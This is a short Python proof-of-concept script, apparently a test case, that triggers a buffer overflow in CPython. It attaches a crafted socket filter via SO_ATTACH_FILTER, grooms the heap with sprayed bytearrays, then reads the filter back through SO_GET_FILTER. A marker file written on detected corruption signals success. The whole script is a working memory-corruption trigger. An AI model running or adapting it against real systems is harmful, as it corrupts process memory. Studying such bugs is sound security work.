# the filter of a socket, read back: its length is counted in instructions and not in bytes, and overflows CPython's buffer
# makes: sign
import os, socket, struct, sys
m = sys.argv[1]; size = 64
body = struct.pack("HBBI", 0, 0x41, 0x41, 0x41414141) * (size - 1) + struct.pack("HBBI", 6, 0, 0, 0x42424242)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxQ", size, id(body) + bytes.__basicsize__ - 1))  # SO_ATTACH_FILTER
    room = [bytearray(size + 40) for i in range(4000)]
    for i in range(1000, 1400, 40): room[i] = None
    s.getsockopt(socket.SOL_SOCKET, 26, size)  # SO_GET_FILTER
    if any(any(one) for one in room if one): open(m, "w").close()
except OSError as e: print("denied:", e)
sys.stdout.flush()
os._exit(not os.path.exists(m))
